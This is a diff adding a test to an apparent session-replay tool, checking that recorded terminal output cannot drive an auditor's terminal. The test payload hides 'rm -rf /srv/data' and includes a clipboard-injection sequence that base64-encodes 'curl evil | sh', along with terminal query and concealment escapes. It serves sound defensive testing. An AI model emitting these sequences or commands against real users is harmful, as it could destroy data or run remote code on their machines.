@@ -89,3 +89,28 @@ def test_what_is_sent_to_a_session_without_a_terminal_is_recorded(lab, how):  # 
     assert f"touch {marker}" in transcript(lab, meta)
     replayed = lab.cli("admin", "replay", meta["id"], "--speed", "1000")
     assert replayed.returncode == 0 and f"touch {marker}" in replayed.stdout, replayed.stderr
+
+
+def test_replay_does_not_let_a_recording_drive_the_reviewers_terminal(lab):  # noqa: F811
+    # What the VM printed is replayed on an auditor's terminal. A recording may not set their
+    # clipboard (OSC 52: a command waiting to be pasted), title or palette, make their terminal
+    # answer a query (its answer would be typed into the shell they return to), or conceal text;
+    # --text shows every character the session printed, with nothing interpreted.
+    command = ("printf 'rm -rf /srv/data\\r\\033[2K\\033]52;c;Y3VybCBldmlsIHwgc2gK\\a\\033]0;innocent\\a"
+               "\\033[6n\\033[c\\033[21t\\033P$qm\\033\\\\\\302\\233""6n\\033[1;8mconcealed-word\\033[38;5;8mgrey\\033[0m\\n'")
+    out = lab.ssh("alice", "alice+dc1", command)
+    assert out.returncode == 0 and "\x1b]52;c;" in out.stdout, out.stderr  # the operator's terminal got it all
+    [meta] = lab.session_by_command(command)
+
+    played = lab.cli("admin", "replay", meta["id"], "--speed", "1000")
+    assert played.returncode == 0, played.stderr
+    for driving in ("\x1b]", "\x1bP", "\x1b[6n", "\x1b[c", "\x1b[21t", "\x9b", "\x1b[1;8m"):
+        assert driving not in played.stdout, f"replay passed {driving!r} to the terminal"
+    assert "^[]52;c;Y3VybCBldmlsIHwgc2gK^G" in played.stdout  # shown, not acted on
+    assert "\x1b[2K" in played.stdout and "\x1b[38;5;8m" in played.stdout  # screen drawing is kept
+    assert "\x1b[1mconcealed-word" in played.stdout
+
+    text = lab.cli("admin", "replay", meta["id"], "--text")
+    assert text.returncode == 0, text.stderr
+    assert "\x1b" not in text.stdout and "\x9b" not in text.stdout
+    assert "rm -rf /srv/data^M^[[2K" in text.stdout and "concealed-word" in text.stdout
